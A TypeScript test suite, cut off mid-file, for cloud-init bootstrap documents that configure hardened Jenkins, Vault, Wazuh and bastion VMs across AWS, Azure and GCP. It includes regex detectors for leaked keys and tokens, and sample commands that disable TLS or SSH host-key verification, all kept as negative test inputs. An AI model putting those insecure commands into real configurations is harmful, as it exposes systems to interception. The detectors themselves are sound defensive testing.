/**
 * What the rendered user data says: pinned versions, ports, mounts, seal stanzas, the absence
 * of any secret, and validation messages. The real validators run in validators.test.ts.
 */
import * as assert from "node:assert/strict";
import * as fs from "node:fs";
import * as path from "node:path";
import { gunzipSync } from "node:zlib";
import { parse } from "yaml";
import {
    APT_REPOSITORIES,
    BOOTSTRAP_PORTS,
    BOOTSTRAP_ROLES,
    BootstrapParamsError,
    CLOUDS,
    Cloud,
    MOUNT_POINTS,
    NODE_EXPORTER_SHA256,
    PINNED_VERSIONS,
    PORTS,
    USER_DATA_LIMITS,
    compressUserData,
    portsFor,
    renderBootstrapDocument,
    validateBootstrapParams,
} from "../../components/bootstrap";
import { bastionParams, jenkinsParams, Rendering, renderAll, vaultParams, wazuhParams } from "./fixtures";

interface ParsedFile {
    path: string;
    content: string;
    permissions: string;
    owner: string;
}
interface Parsed {
    hostname: string;
    ssh_pwauth: boolean;
    disable_root: boolean;
    packages: string[];
    write_files: ParsedFile[];
    runcmd: string[][];
    [key: string]: unknown;
}

const all: Rendering[] = renderAll();
const parsed = (doc: string): Parsed => parse(doc) as Parsed;
const fileOf = (doc: string, path: string): string => {
    const f = parsed(doc).write_files.find((w) => w.path === path);
    assert.ok(f, `no write_files entry ${path}`);
    return f.content;
};
const render = (r: Rendering["role"], c: Cloud): string => all.find((x) => x.role === r && x.cloud === c)!.document;

describe("bootstrap: every role renders for every cloud", () => {
    it("renders 4 roles x 3 clouds", () => {
        assert.equal(all.length, BOOTSTRAP_ROLES.length * CLOUDS.length);
        assert.deepEqual(BOOTSTRAP_ROLES, ["bastion", "jenkins", "vault", "wazuh"]);
        assert.deepEqual(CLOUDS, ["aws", "azure", "gcp"]);
    });

    for (const r of all) {
        it(`${r.id}: a #cloud-config document whose runcmd runs the bootstrap runner once`, () => {
            assert.ok(r.document.startsWith("#cloud-config\n"));
            const doc = parsed(r.document);
            assert.equal(doc.hostname, `plat-dev-${r.cloud}-${r.role}`);
            assert.equal(doc.ssh_pwauth, false);
            assert.equal(doc.disable_root, true);
            assert.equal(doc.package_update, true);
            assert.equal(doc.package_upgrade, true);
            assert.deepEqual(doc.runcmd, [["/usr/local/sbin/platform-bootstrap"]]);
            for (const p of ["auditd", "chrony", "unattended-upgrades", "jq", "curl", "gnupg"]) assert.ok(doc.packages.includes(p), p);
            for (const w of doc.write_files) assert.equal(w.owner, "root:root", w.path);
        });
    }

    it("is deterministic (same params, same bytes: no diff on every preview)", () => {
        assert.equal(renderBootstrapDocument("vault", vaultParams("gcp")), render("vault", "gcp"));
    });
});

describe("bootstrap: no secret material in user data", () => {
    const forbidden: [string, RegExp][] = [
        ["PEM private key", /-----BEGIN [A-Z ]*PRIVATE KEY-----/],
        ["OpenPGP private key", /BEGIN PGP PRIVATE KEY BLOCK/],
        ["AWS access key id", /\b(AKIA|ASIA)[0-9A-Z]{16}\b/],
        ["AWS secret key setting", /aws_secret_access_key|secret_key\s*=/i],
        ["static AWS key in a seal", /access_key\s*=/],
        ["Azure client secret", /client_secret/i],
        ["Azure storage key / SAS", /AccountKey=|SharedAccessSignature|[?&]sig=/],
        ["GCP credentials file / OAuth token", /"private_key"|credentials\s*=|ya29\./],
        ["Vault token", /\bhv[sbr]\.[A-Za-z0-9_-]{20,}|VAULT_TOKEN=['"]?[A-Za-z0-9]/],
        ["JWT", /eyJ[A-Za-z0-9_-]{8,}\.eyJ/],
        ["Wazuh password as install variable", /WAZUH_REGISTRATION_PASSWORD/],
        // A JCasC `${readFile:/path}` is a reference to a file on the VM (configuration-as-code
        // docs/features/secrets.adoc), never the value: anything else after `password:` is caught.
        ["password value in config", /^\s*(password|passwd|chpasswd|plain_text_passwd)\s*:(?!\s*\$\{readFile:\/)/im],
    ];

    for (const r of all) {
        it(`${r.id}: contains none of: ${forbidden.map(([n]) => n).join(", ")}`, () => {
            for (const [name, re] of forbidden) assert.doesNotMatch(r.document, re, `${name} in ${r.id}`);
            const doc = parsed(r.document);
            for (const key of ["users", "chpasswd", "password", "ssh_keys", "ca_certs"]) assert.equal(doc[key], undefined, key);
        });

        it(`${r.id}: the enrollment password is only ever referenced, then fetched on the VM into authd.pass`, () => {
            const lib = fileOf(r.document, "/usr/local/lib/platform-bootstrap/lib.sh");
            const step = r.role === "wazuh" ? "50-wazuh-server" : "70-wazuh-agent";
            const script = fileOf(r.document, `/usr/local/lib/platform-bootstrap/${step}.sh`);
            const expected = {
                aws: `fetch_secret 'arn:aws:secretsmanager:eu-west-1:123456789012:secret:plat-dev/wazuh-enrollment-AbCdEf' 'eu-west-1'`,
                azure: `fetch_secret 'plat-dev-kv' 'wazuh-enrollment' ''`,
                gcp: `fetch_secret 'plat-dev-123456' 'wazuh-enrollment' 'latest'`,
            }[r.cloud];
            // `line`: the read must print exactly one line, or nothing is written (tool chatter never becomes the password).
            assert.ok(script.includes(`install_secret /var/ossec/etc/authd.pass root:wazuh 0640 line ${expected}`), script);
            const api = {
                aws: "aws secretsmanager get-secret-value",
                azure: "https://$1.vault.azure.net/secrets/$2?api-version=7.4",
                gcp: "https://secretmanager.googleapis.com/v1/projects/$1/secrets/$2/versions/$3:access",
            }[r.cloud];
            assert.ok(lib.includes(api), `${r.cloud} secret store API`);
            // Tokens reach curl through stdin, never argv.
            assert.ok(lib.includes(`printf 'header = "Authorization: Bearer %s"\\n' "$token" | curl -K - "$@"`));
        });

        it(`${r.id}: the VM's certificate and key are only referenced: 30-tls reads its own TLS secret with the VM identity`, () => {
            const tls = fileOf(r.document, "/usr/local/lib/platform-bootstrap/30-tls.sh");
            const ref = {
                aws: `fetch_secret 'arn:aws:secretsmanager:eu-west-1:123456789012:secret:plat-dev/tls/${r.role}-XyZ123' 'eu-west-1'`,
                azure: `fetch_secret 'plat-dev-kv' 'tls-${r.role}' ''`,
                gcp: `fetch_secret 'plat-dev-123456' 'plat-dev-tls-${r.role}' 'latest'`,
            }[r.cloud];
            // `json`: only a JSON object is ever written.
            assert.ok(tls.includes(`install_secret "\${work}/bundle.json" root:root 0600 json ${ref}`), tls);
            assert.ok(!parsed(r.document).write_files.some((w) => /\.(key|pem)$/.test(w.path)), "no key or certificate file in user data");
        });
    }

    it("Vault serves the VM certificate of the platform CA (a copy owned by vault), never a self-signed one", () => {
        for (const c of CLOUDS) {
            const step = fileOf(render("vault", c), "/usr/local/lib/platform-bootstrap/50-vault.sh");
            assert.doesNotMatch(step, /openssl req/);
            assert.ok(step.includes("tls_copy vault vault 0600 '/opt/vault/tls/vault-server.crt' '/opt/vault/tls/vault-server.key'"));
            assert.match(fileOf(render("vault", c), "/etc/profile.d/vault.sh"), /^export VAULT_CACERT=\/etc\/platform-tls\/ca\.crt$/m);
        }
    });

    it("the Wazuh assistant's generated admin password stays out of the cloud-init log", () => {
        const step = fileOf(render("wazuh", "aws"), "/usr/local/lib/platform-bootstrap/50-wazuh-server.sh");
        assert.ok(step.includes(`(umask 077 && bash wazuh-install.sh --all-in-one >>"\${WORK_DIR}/wazuh-install.log" 2>&1)`));
        assert.doesNotMatch(step, /wazuh-install\.sh (-o|--overwrite|-u|--uninstall)/, "never overwrite or uninstall: both empty /var/lib/wazuh-indexer");
        assert.ok(step.includes("umask 077"));
    });
});

describe("bootstrap: pinned versions and signed repositories", () => {
    it("pins Jenkins LTS, its Java, Vault, Wazuh and node_exporter in one place", () => {
        assert.deepEqual(PINNED_VERSIONS, {
            jenkins: "2.580.2",
            jenkinsJavaPackage: "openjdk-21-jre-headless",
            vault: "2.0.4",
            wazuh: "4.14.8",
            // The agents' pin, never newer than the manager's (operations.test.ts checks the order).
            wazuhAgent: "4.14.8",
            nodeExporter: "1.12.1",
        });
        for (const v of [PINNED_VERSIONS.jenkins, PINNED_VERSIONS.vault, PINNED_VERSIONS.wazuh, PINNED_VERSIONS.nodeExporter]) {
            assert.match(v, /^\d+\.\d+\.\d+$/);
        }
        assert.match(PINNED_VERSIONS.wazuh, /^4\./, "Wazuh stays on 4.x");
        assert.match(NODE_EXPORTER_SHA256.amd64, /^[0-9a-f]{64}$/);
    });

    it("every vendor repository is HTTPS, keyed by a full fingerprint, used with signed-by", () => {
        for (const repo of Object.values(APT_REPOSITORIES)) {
            assert.match(repo.keyUrl, /^https:\/\//);
            assert.match(repo.url, /^https:\/\//);
            assert.match(repo.keyFingerprint, /^[0-9A-F]{40}$/);
        }
        assert.equal(APT_REPOSITORIES.jenkins.keyUrl, "https://pkg.jenkins.io/debian-stable/jenkins.io-2026.key");
        assert.equal(APT_REPOSITORIES.hashicorp.keyUrl, "https://apt.releases.hashicorp.com/gpg");
        const lib = fileOf(render("jenkins", "aws"), "/usr/local/lib/platform-bootstrap/lib.sh");
        assert.ok(lib.includes(`printf 'deb [signed-by=%s] %s %s %s\\n' "$keyring"`));
        assert.ok(lib.includes(`if [ "$actual" != "$fingerprint" ]; then`));
        assert.doesNotMatch(lib, /^\s*apt-key\b|\$\(apt-key|\|\s*apt-key\b/m, "no deprecated apt-key invocation");
    });

    for (const c of CLOUDS) {
        it(`${c}: installs exactly the pinned versions and holds them`, () => {
            const jenkins = fileOf(render("jenkins", c), "/usr/local/lib/platform-bootstrap/50-jenkins.sh");
            assert.ok(jenkins.includes("readonly JENKINS_VERSION='2.580.2'"));
            assert.ok(jenkins.includes(`apt_ensure fontconfig 'openjdk-21-jre-headless' nginx`));
            // apt_pin: unhold, install name=version, hold (apt refuses to change a held package otherwise).
            assert.ok(jenkins.includes(`apt_pin jenkins "$JENKINS_VERSION"`));
            assert.ok(jenkins.includes("add_signed_apt_repo 'jenkins' 'https://pkg.jenkins.io/debian-stable/jenkins.io-2026.key' '5E386EADB55F01504CAE8BCF7198F4B714ABFC68' 'https://pkg.jenkins.io/debian-stable' 'binary/' ''"));

            const vault = fileOf(render("vault", c), "/usr/local/lib/platform-bootstrap/50-vault.sh");
            assert.ok(vault.includes("readonly VAULT_VERSION='2.0.4'"));
            assert.ok(vault.includes(`apt_pin vault "\${VAULT_VERSION}-1"`));
            assert.ok(vault.includes("add_signed_apt_repo 'hashicorp' 'https://apt.releases.hashicorp.com/gpg' '798AEC654E5C15428C8E42EEAA16FCBCA621E701' 'https://apt.releases.hashicorp.com' '@CODENAME@' 'main'"));

            const agent = fileOf(render("bastion", c), "/usr/local/lib/platform-bootstrap/70-wazuh-agent.sh");
            assert.ok(agent.includes("readonly WAZUH_VERSION='4.14.8'"));
            assert.ok(agent.includes(`apt_pin wazuh-agent "\${WAZUH_VERSION}-1"`));
            const lib = fileOf(render("bastion", c), "/usr/local/lib/platform-bootstrap/lib.sh");
            for (const l of ['apt-mark unhold "$name" >/dev/null || return 1', 'if ! apt_ensure "\${name}=\${version}"; then', 'apt-mark hold "$name" >/dev/null']) assert.ok(lib.includes(l), l);
            assert.ok(agent.includes("'0DCFCA5547B19D2A6099506096B3EE5F29111145' 'https://packages.wazuh.com/4.x/apt/' 'stable' 'main'"));

            const server = fileOf(render("wazuh", c), "/usr/local/lib/platform-bootstrap/50-wazuh-server.sh");
            assert.ok(server.includes("readonly INSTALLER_URL='https://packages.wazuh.com/4.14/wazuh-install.sh'"));
            assert.ok(server.includes(`grep -qx "readonly wazuh_version=\\"\${WAZUH_VERSION}\\"" wazuh-install.sh`));

            const ne = fileOf(render("wazuh", c), "/usr/local/lib/platform-bootstrap/60-node-exporter.sh");
            assert.ok(ne.includes("https://github.com/prometheus/node_exporter/releases/download/v1.12.1/node_exporter-1.12.1.linux-amd64.tar.gz"));
            assert.ok(ne.includes(`readonly SHA256_AMD64='${NODE_EXPORTER_SHA256.amd64}'`));
            assert.ok(ne.includes("sha256sum -c --quiet -"));
        });
    }
});

describe("bootstrap: common hardening on every VM", () => {
    for (const r of all) {
        it(`${r.id}: sshd, auditd, time sync, unattended upgrades, node_exporter${r.role === "wazuh" ? "" : ", Wazuh agent"}`, () => {
            const sshd = fileOf(r.document, "/etc/ssh/sshd_config.d/10-platform-hardening.conf");
            for (const line of ["PasswordAuthentication no", "KbdInteractiveAuthentication no", "PermitRootLogin no", "AuthenticationMethods publickey", "X11Forwarding no"]) {
                assert.match(sshd, new RegExp(`^${line}$`, "m"), line);
            }
            assert.match(sshd, new RegExp(`^AllowTcpForwarding ${r.role === "bastion" ? "local" : "no"}$`, "m"));
            assert.match(fileOf(r.document, "/etc/audit/rules.d/50-platform.rules"), /^-w \/etc\/sudoers -p wa -k privilege$/m);
            assert.match(fileOf(r.document, "/etc/apt/apt.conf.d/20auto-upgrades"), /^APT::Periodic::Unattended-Upgrade "1";$/m);
            const time = fileOf(r.document, "/etc/chrony/conf.d/10-platform-timesync.conf");
            const source = { aws: "server 169.254.169.123 prefer iburst", azure: "refclock PHC /dev/ptp_hyperv", gcp: "server metadata.google.internal prefer iburst" }[r.cloud];
            assert.ok(time.includes(source), time);
            assert.match(
                fileOf(r.document, "/etc/systemd/system/node_exporter.service"),
                /^ExecStart=\/usr\/local\/bin\/node_exporter --web.listen-address=:9100 --web.config.file=\/etc\/node_exporter\/web-config.yml --collector.textfile.directory=\/var\/lib\/node_exporter\/textfile$/m,
            );
            assert.equal(
                fileOf(r.document, "/etc/node_exporter/web-config.yml").replace(/^#.*\n/gm, ""),
                "tls_server_config:\n  cert_file: /etc/node_exporter/tls.crt\n  key_file: /etc/node_exporter/tls.key\n  min_version: TLS12\n",
            );
            const hardening = fileOf(r.document, "/usr/local/lib/platform-bootstrap/20-hardening.sh");
            assert.ok(hardening.indexOf("sshd -t") < hardening.indexOf("systemctl try-reload-or-restart ssh.service"), "sshd config validated before reload");

            // The runner: each step with its budget and what it needs; main service before the auxiliaries.
            const runner = fileOf(r.document, "/usr/local/sbin/platform-bootstrap");
            const runs = [...runner.matchAll(/^run_step (\S+) (\d+)(.*)$/gm)].map((m) => `${m[1]} ${m[2]}${m[3]}`);
            const main = { jenkins: "50-jenkins 2400", vault: "50-vault 2400", wazuh: "50-wazuh-server 5400" } as Record<string, string>;
            const expected = [
                "10-packages 1800",
                "20-hardening 300 10-packages",
                "30-tls 1200 10-packages",
                "35-operations 300 10-packages 20-hardening 30-tls",
                ...(r.role === "bastion" ? [] : ["40-data-disk 900", `${main[r.role]} 10-packages 30-tls 40-data-disk`]),
                "60-node-exporter 900 10-packages 30-tls",
                ...(r.role === "wazuh" ? [] : ["70-wazuh-agent 2400 10-packages 30-tls"]),
            ];
            assert.deepEqual(runs, expected);
            for (const s of runs) fileOf(r.document, `/usr/local/lib/platform-bootstrap/${s.split(" ")[0]}.sh`);
            assert.match(runner, /timeout --kill-after=30 "\$budget" bash/);
        });
    }

    it("agents enroll with the manager address they were given", () => {
        const agent = fileOf(render("jenkins", "azure"), "/usr/local/lib/platform-bootstrap/70-wazuh-agent.sh");
        assert.ok(agent.includes("export WAZUH_MANAGER='wazuh.plat-dev.internal'"));
        assert.ok(agent.includes("export WAZUH_AGENT_NAME='plat-dev-azure-jenkins'"));
        // The agent verifies the manager's certificate (platform CA) before sending the password.
        assert.ok(agent.includes("export WAZUH_REGISTRATION_CA='/etc/platform-tls/ca.crt'"));
    });
});

describe("bootstrap: data disks", () => {
    const candidates: Record<Cloud, string> = {
        aws: "readonly CANDIDATES=('/dev/disk/by-id/nvme-Amazon_Elastic_Block_Store_vol0a1b2c3d4e5f60718' '/dev/sdf' '/dev/xvdf')",
        azure: "readonly CANDIDATES=('/dev/disk/azure/data/by-lun/0' '/dev/disk/azure/scsi1/lun0')",
        gcp: "readonly CANDIDATES=('/dev/disk/by-id/google-data')",
    };
    const mounts = { jenkins: ["/var/lib/jenkins", "jenkins-data"], vault: ["/opt/vault/data", "vault-data"], wazuh: ["/var/lib/wazuh-data", "wazuh-data"] } as const;

    for (const r of all.filter((x) => x.role !== "bastion")) {
        it(`${r.id}: finds the cloud's disk, formats only a blank one, mounts by UUID with nofail`, () => {
            const step = fileOf(r.document, "/usr/local/lib/platform-bootstrap/40-data-disk.sh");
            const [mountPoint, label] = mounts[r.role as keyof typeof mounts];
            assert.ok(step.includes(candidates[r.cloud]), step);
            assert.ok(step.includes(`readonly MOUNT_POINT='${mountPoint}'`));
            assert.ok(step.includes(`readonly FS_LABEL='${label}'`));
            assert.ok(step.includes(`fstype="$(blkid -p -o value -s TYPE "$device" || true)"`));
            assert.ok(step.includes(`if [ -z "$fstype" ]; then`));
            assert.ok(step.indexOf(`if [ -z "$fstype" ]; then`) < step.indexOf("mkfs.ext4"), "mkfs only inside the blank-disk branch");
            assert.ok(step.includes(`printf 'UUID=%s %s %s defaults,nofail,x-systemd.device-timeout=30s 0 2\\n'`));
            assert.ok(step.includes(`if ! grep -q "^UUID=\${uuid} " /etc/fstab; then`), "fstab entry added once");
            assert.ok(step.includes(`mountpoint -q "$MOUNT_POINT" || mount "$MOUNT_POINT"`));
        });
    }

    it("services never start on the root disk (RequiresMountsFor)", () => {
        for (const c of CLOUDS) {
            assert.match(fileOf(render("jenkins", c), "/etc/systemd/system/jenkins.service.d/10-platform.conf"), /^RequiresMountsFor=\/var\/lib\/jenkins$/m);
            assert.match(fileOf(render("vault", c), "/etc/systemd/system/vault.service.d/10-platform.conf"), /^RequiresMountsFor=\/opt\/vault\/data$/m);
            assert.match(fileOf(render("wazuh", c), "/etc/systemd/system/wazuh-indexer.service.d/10-platform.conf"), /^RequiresMountsFor=\/var\/lib\/wazuh-data$/m);
        }
        // Not /var/lib/wazuh-indexer: the 4.14.8 assistant refuses to install when it exists.
        assert.deepEqual(MOUNT_POINTS, { jenkins: "/var/lib/jenkins", vault: "/opt/vault/data", wazuh: "/var/lib/wazuh-data" });
    });

    it("Jenkins: JENKINS_HOME on the data disk, HTTP on the loopback only, nginx TLS on 8443 with WebSocket upgrade", () => {
        const doc = render("jenkins", "gcp");
        const dropIn = fileOf(doc, "/etc/systemd/system/jenkins.service.d/10-platform.conf");
        assert.match(dropIn, /^Environment="JENKINS_HOME=\/var\/lib\/jenkins"$/m);
        assert.match(dropIn, /^Environment="JENKINS_PORT=8080"$/m);
        assert.match(dropIn, /^Environment="JENKINS_LISTEN_ADDRESS=127\.0\.0\.1"$/m);
        const site = fileOf(doc, "/etc/platform-bootstrap/jenkins-nginx.conf");
        for (const line of [
            "  listen 8443 ssl;",
            "  ssl_certificate /etc/nginx/platform-tls/server.crt;",
            "  ssl_certificate_key /etc/nginx/platform-tls/server.key;",
            "  ssl_protocols TLSv1.2 TLSv1.3;",
            "  server 127.0.0.1:8080;",
            "    proxy_set_header Upgrade $http_upgrade;",
            "    proxy_set_header Connection $connection_upgrade;",
            "    proxy_set_header X-Forwarded-Proto $scheme;",
            "    proxy_request_buffering off;",
        ]) {
            assert.ok(site.split("\n").includes(line), line);
        }
        assert.doesNotMatch(site, /listen 80\b|listen 8080/);
    });
});

describe("bootstrap: Vault seal, listener and snapshots", () => {
    const seals: Record<Cloud, string> = {
        aws: `seal "awskms" {
  region     = "eu-west-1"
  kms_key_id = "arn:aws:kms:eu-west-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab"
}`,
        azure: `seal "azurekeyvault" {
  tenant_id  = "00000000-1111-2222-3333-444444444444"
  vault_name = "plat-dev-kv"
  key_name   = "vault-unseal"
  client_id  = "55555555-6666-7777-8888-999999999999"
}`,
        gcp: `seal "gcpckms" {
  project    = "plat-dev-123456"
  region     = "europe-west1"
  key_ring   = "plat-dev"
  crypto_key = "vault-unseal"
}`,
    };

    for (const c of CLOUDS) {
        it(`${c}: one seal stanza of the cloud's KMS, identity-based; raft on the data disk; TLS 8200 / 8201`, () => {
            const hcl = fileOf(render("vault", c), "/etc/platform-bootstrap/vault.hcl");
            assert.ok(hcl.includes(seals[c]), hcl);
            assert.equal(hcl.match(/^seal "/gm)?.length, 1);
            assert.doesNotMatch(hcl, /access_key|secret_key|client_secret|credentials|session_token/);
            assert.ok(hcl.includes(`storage "raft" {\n  path = "/opt/vault/data"\n}`));
            assert.ok(hcl.includes(`address         = "0.0.0.0:8200"`));
            assert.ok(hcl.includes(`cluster_address = "0.0.0.0:8201"`));
            assert.ok(hcl.includes(`tls_cert_file   = "/opt/vault/tls/vault-server.crt"`));
            assert.doesNotMatch(hcl, /tls_disable/);
            assert.equal(parsed(render("vault", c)).write_files.find((w) => w.path === "/etc/platform-bootstrap/vault.hcl")!.permissions, "0600");
        });
    }

    it("no initialisation at boot: only the operator's platform-vault runs 'vault operator init'", () => {
        for (const c of CLOUDS) {
            const doc = parsed(render("vault", c));
            const withInit = doc.write_files.filter((w) => /\boperator init\b/.test(w.content)).map((w) => w.path);
            assert.deepEqual(withInit, ["/usr/local/bin/platform-vault"]);
        }
    });

    const uploads: Record<Cloud, [string, string]> = {
        aws: [
            `retry_net upload_object "\${snapshot}" 'plat-dev-vault-backups' "\${object}" 'eu-west-1' 'arn:aws:kms:eu-west-1:123456789012:key/0b1c2d3e-4f50-6172-8394-a5b6c7d8e9f0'`,
            `aws s3 cp --only-show-errors --region "$4" --sse aws:kms --sse-kms-key-id "$5" "$1" "s3://$2/$3"`,
        ],
        azure: [
            `retry_net upload_object "\${snapshot}" 'platdevbackups' 'vault-snapshots' "\${object}" '55555555-6666-7777-8888-999999999999'`,
            `"https://$2.blob.core.windows.net/$3/$4"`,
        ],
        gcp: [`retry_net upload_object "\${snapshot}" 'plat-dev-vault-backups' "\${object}"`, `https://storage.googleapis.com/upload/storage/v1/b/$2/o?uploadType=media&ifGenerationMatch=0`],
    };
    for (const c of CLOUDS) {
        it(`${c}: a systemd timer snapshots raft and uploads it with the VM identity`, () => {
            const doc = render("vault", c);
            const script = fileOf(doc, "/usr/local/sbin/vault-raft-snapshot");
            assert.ok(script.includes(uploads[c][0]), script);
            assert.ok(fileOf(doc, "/usr/local/lib/platform-bootstrap/lib.sh").includes(uploads[c][1]));
            assert.ok(script.includes(`vault operator raft snapshot save "$snapshot"`));
            assert.ok(script.includes(`VAULT_TOKEN="$(vault_login '${c}' 'raft-snapshot'${c === "azure" ? " '55555555-6666-7777-8888-999999999999'" : ""})"`));
            assert.ok(script.includes("vault token revoke -self"));
            assert.ok(script.includes(c === "gcp" ? "readonly PREFIX='snapshots/vault/'" : "readonly PREFIX='vault-snapshots/'"));
            assert.match(fileOf(doc, "/etc/systemd/system/vault-raft-snapshot.timer"), /^OnCalendar=hourly$/m);
            assert.match(fileOf(doc, "/etc/systemd/system/vault-raft-snapshot.service"), /^ExecStart=\/usr\/local\/sbin\/vault-raft-snapshot$/m);
            assert.ok(fileOf(doc, "/usr/local/lib/platform-bootstrap/50-vault.sh").includes("systemctl enable --now vault-raft-snapshot.timer"));
        });
    }

    it("schedule, auth role and mount are configurable", () => {
        const doc = renderBootstrapDocument("vault", { ...vaultParams("aws"), snapshotSchedule: "*-*-* 00/4:00:00", snapshotAuthRole: "snap", snapshotAuthMount: "aws-prod" } as never);
        assert.match(fileOf(doc, "/etc/systemd/system/vault-raft-snapshot.timer"), /^OnCalendar=\*-\*-\* 00\/4:00:00$/m);
        assert.ok(fileOf(doc, "/usr/local/sbin/vault-raft-snapshot").includes(`vault_login 'aws-prod' 'snap'`));
    });
});

describe("bootstrap: ports", () => {
    it("documents every listening port per role in one table", () => {
        const table = Object.fromEntries(Object.entries(BOOTSTRAP_PORTS).map(([role, ports]) => [role, ports.map((p) => `${p.name}:${p.port}/${p.protocol}`)]));
        assert.deepEqual(table, {
            bastion: ["ssh:22/tcp", "node-exporter:9100/tcp"],
            jenkins: ["ssh:22/tcp", "node-exporter:9100/tcp", "jenkins-https:8443/tcp"],
            vault: ["ssh:22/tcp", "node-exporter:9100/tcp", "vault-api:8200/tcp", "vault-cluster:8201/tcp"],
            wazuh: ["ssh:22/tcp", "node-exporter:9100/tcp", "wazuh-events:1514/tcp", "wazuh-enrollment:1515/tcp", "wazuh-api:55000/tcp", "wazuh-dashboard:443/tcp"],
        });
        assert.deepEqual(PORTS, { ssh: 22, nodeExporter: 9100, jenkinsHttps: 8443, vaultApi: 8200, vaultCluster: 8201, wazuhAgentEvents: 1514, wazuhAgentEnrollment: 1515, wazuhApi: 55000, wazuhDashboard: 443 });
    });

    it("answers what a tier may reach", () => {
        assert.deepEqual(portsFor("bastion", "operators").map((p) => p.port), [22]);
        assert.deepEqual(portsFor("wazuh", "wazuh-agents").map((p) => p.port), [1514, 1515]);
        assert.deepEqual(portsFor("vault", "cluster").map((p) => p.port), [9100, 8200]);
        assert.deepEqual(portsFor("vault", "same-role").map((p) => p.port), [8201]);
        for (const role of BOOTSTRAP_ROLES) assert.ok(portsFor(role, "cluster").some((p) => p.port === 9100), `${role} scrapable`);
        // Only the bastion's SSH faces operators; tool VMs' SSH only faces the bastion.
        for (const role of ["jenkins", "vault", "wazuh"] as const) assert.deepEqual(portsFor(role, "operators"), []);
    });
});

describe("bootstrap: size limits", () => {
    for (const r of all) {
        it(`${r.id}: fits the cloud's user data limit (gzip for AWS and Azure)`, () => {
            const raw = Buffer.byteLength(r.document);
            if (r.cloud === "aws" || r.cloud === "azure") {
                const gz = Buffer.from(compressUserData(r.document), "base64");
                assert.ok(gz.length <= USER_DATA_LIMITS[r.cloud], `${gz.length} > ${USER_DATA_LIMITS[r.cloud]}`);
                assert.equal(gunzipSync(gz).toString("utf8"), r.document);
            } else {
                assert.ok(raw <= USER_DATA_LIMITS[r.cloud], `${raw} > ${USER_DATA_LIMITS[r.cloud]}`);
            }
        });
    }

    it("compression is deterministic", () => {
        assert.equal(compressUserData(render("vault", "aws")), compressUserData(render("vault", "aws")));
    });

    /**
     * Free share of each cloud's limit a document must keep (README.md states the measured margins).
     * AWS is the tight one: EC2's 16 KB after gzip now carries the operator tools (platform-vault,
     * health, the reboot window), so its documents kept 5% until the Jenkins agents; growing past today's means moving the
     * bootstrap out of user data (an object fetched with the instance role and checked against a
     * digest the user data carries), not squeezing the scripts further.
     */
    // AWS: 2.5% since the Jenkins agents on Kubernetes (JCasC, the cluster token refresh) took the
    // Jenkins document to 97% of EC2's limit; the next growth moves the bootstrap out of user data.
    const MARGIN: Record<Cloud, number> = { aws: 0.025, azure: 0.15, gcp: 0.15 };
    it("every document keeps its margin of its cloud's limit free (README.md states the margins)", () => {
        for (const r of all) {
            const size = r.cloud === "gcp" ? Buffer.byteLength(r.document) : Buffer.from(compressUserData(r.document), "base64").length;
            assert.ok(size <= USER_DATA_LIMITS[r.cloud] * (1 - MARGIN[r.cloud]), `${r.id}: ${size} of ${USER_DATA_LIMITS[r.cloud]} bytes`);
        }
    });
});

describe("bootstrap: TLS is verified everywhere (no -k, no skip-verify)", () => {
    // Every way the tools we drive can be told not to verify a certificate.
    const SKIP_VERIFY: [string, RegExp][] = [
        ["curl -k", /\bcurl\b[^\n]*\s-k(?=[\s"'`]|$)/m],
        ["--insecure (curl, helm, vault ...)", /--insecure\b/],
        ["curl short options bundling k", /\bcurl\b[^\n]*\s-[a-zA-Z]*k[a-zA-Z]*\s/],
        ["wget --no-check-certificate", /--no-check-certificate/],
        ["Prometheus / Go insecure_skip_verify", /insecure_skip_verify|insecureSkipVerify|InsecureSkipVerify/],
        ["Vault tls_skip_verify / VAULT_SKIP_VERIFY", /tls_skip_verify|VAULT_SKIP_VERIFY|-tls-skip-verify/i],
        ["skip-verify in any spelling", /skip[-_ ]?verif/i],
        ["Node rejectUnauthorized / NODE_TLS_REJECT_UNAUTHORIZED", /rejectUnauthorized|NODE_TLS_REJECT_UNAUTHORIZED/],
        ["OpenSearch verificationMode none", /verificationMode:\s*none/],
        ["ssh without host key checking", /StrictHostKeyChecking[= ]no/],
    ];
    const repo = path.resolve(__dirname, "../..");
    const docs = ["README.md", "components/bootstrap/README.md", "components/kubernetes/README.md", ...fs.readdirSync(path.join(repo, "docs")).filter((f) => f.endsWith(".md")).map((f) => `docs/${f}`)];

    for (const r of all) {
        it(`${r.id}: the rendered user data never disables certificate verification`, () => {
            for (const [name, re] of SKIP_VERIFY) assert.doesNotMatch(r.document, re, `${name} in ${r.id}`);
        });
    }

    it("the operator docs (tunnels, curl, Vault CLI) never disable it either", () => {
        for (const doc of docs) {
            const text = fs.readFileSync(path.join(repo, doc), "utf8");
            for (const [name, re] of SKIP_VERIFY) assert.doesNotMatch(text, re, `${name} in ${doc}`);
        }
    });

    it("the checks are not vacuous: each refuses a line that skips verification", () => {
        const bad = ["curl -k https://vault:8200", "curl --insecure https://x", "helm --insecure-skip-tls-verify", "curl -fsSk https://x", "wget --no-check-certificate https://x", "insecure_skip_verify: true", "VAULT_SKIP_VERIFY=1", "ssh -o StrictHostKeyChecking=no bastion"];
        for (const line of bad) assert.ok(SKIP_VERIFY.some(([, re]) => re.test(line)), line);
    });
});

describe("bootstrap: validation", () => {
    it("accepts every fixture", () => {
        for (const c of CLOUDS) {
            assert.deepEqual(validateBootstrapParams("bastion", bastionParams(c)), []);
            assert.deepEqual(validateBootstrapParams("jenkins", jenkinsParams(c)), []);
            assert.deepEqual(validateBootstrapParams("vault", vaultParams(c)), []);
            assert.deepEqual(validateBootstrapParams("wazuh", wazuhParams(c)), []);
        }
    });

    it("collects every problem, naming field, value, what is allowed and the fix", () => {
        const bad = {
            ...vaultParams("aws"),
            hostname: "Vault_0",
            seal: { type: "awskms", region: "europe", kmsKeyId: "my key" },
            dataDisk: { type: "aws-ebs", volumeId: "vol-xyz" },
        } as never;
        assert.throws(
            () => renderBootstrapDocument("vault", bad),
            (e: unknown) => {
                assert.ok(e instanceof BootstrapParamsError);
                assert.deepEqual(e.problems, [
                    `hostname: "Vault_0" is not valid; expected an RFC 1123 label (lowercase letters, digits, hyphens; up to 63). Derive it from the stack's naming helper.`,
                    `dataDisk.volumeId: "vol-xyz" is not valid; expected an EBS volume id 'vol-' + 8-17 hex. Pass the aws.ebs.Volume's id.`,
                    `seal.region: "europe" is not valid; expected an AWS region such as 'eu-west-1'. Use the key's region.`,
